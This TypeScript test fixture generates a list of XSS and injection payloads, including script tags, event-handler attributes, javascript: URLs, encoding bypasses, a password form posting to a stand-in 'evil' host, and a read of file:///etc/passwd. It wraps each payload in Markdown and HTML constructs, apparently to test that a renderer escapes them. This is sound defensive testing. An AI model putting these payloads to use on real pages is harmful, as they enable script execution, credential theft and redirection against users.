/** Texts that try to be more than words. Each must come out as words. */
const wrappers = [
  (attack: string) => attack,
  (attack: string) => `**${attack}**`,
  (attack: string) => `> ${attack}`,
  (attack: string) => `- ${attack}`,
  (attack: string) => `[words](${attack})`,
  (attack: string) => `[${attack}](https://example.org)`,
  (attack: string) => `![${attack}](${attack})`,
  (attack: string) => `<${attack}>`,
  (attack: string) => `\`\`\`${attack}\n${attack}\n\`\`\``,
  (attack: string) => `[x]: ${attack}\n\n[x]`,
  (attack: string) => `[a](https://example.org "${attack}")`,
  (attack: string) => `@[${attack}](person:01234567-89ab-4cde-8f01-23456789abcd)`,
];

const attacks = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert&#40;1)</script>', '<iframe src=javascript:alert(1)>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>', '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<style>*{background:url(//evil)}</style>', '<link rel=stylesheet href=//evil>', '<meta http-equiv=refresh content=0;url=//evil>',
  '<form action=//evil><input name=password>', '<textarea autofocus onfocus=alert(1)>', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<object data=javascript:alert(1)>', '<base href=//evil/>',
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java&#10;script:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=', 'file:///etc/passwd', 'blob:https://x/y', '//evil.example', '/\\evil.example', 'https://example.org/" onmouseover="alert(1)', "https://example.org/' onclick='alert(1)", 'https://example.org/%22onmouseover=alert(1)', 'https://example.org`onclick=alert(1)`',
  'mailto:x@y.z?subject=<script>', 'http://example.org\u202egro.live', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '</p><script>alert(1)</script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>', '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '&lt;script&gt;alert(1)&lt;/script&gt;', '\u0000<script>alert(1)</script>', '\uFEFF<script>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '`<script>alert(1)</script>`', '\\<script>alert(1)</script>', '[x](<javascript:alert(1)>)', '[x](javascript&colon;alert(1))',
  '[a](javascript://%0aalert(1))', '](javascript:alert(1))[', '![](//evil/pixel.gif)', '[![x](x)](javascript:alert(1))', '<https://evil" onclick=alert(1)>', '@[x](person:javascript:alert(1))', '![x][y]\n\n[y]: javascript:alert(1)', '[x]( javascript:alert(1) "t" )', '\u{E0001}<script>alert(1)</script>',
];

/** Every attack in every place where a text may hold one. */
export const nastyTexts: readonly string[] = attacks.flatMap((attack) => wrappers.map((wrap) => wrap(attack)));
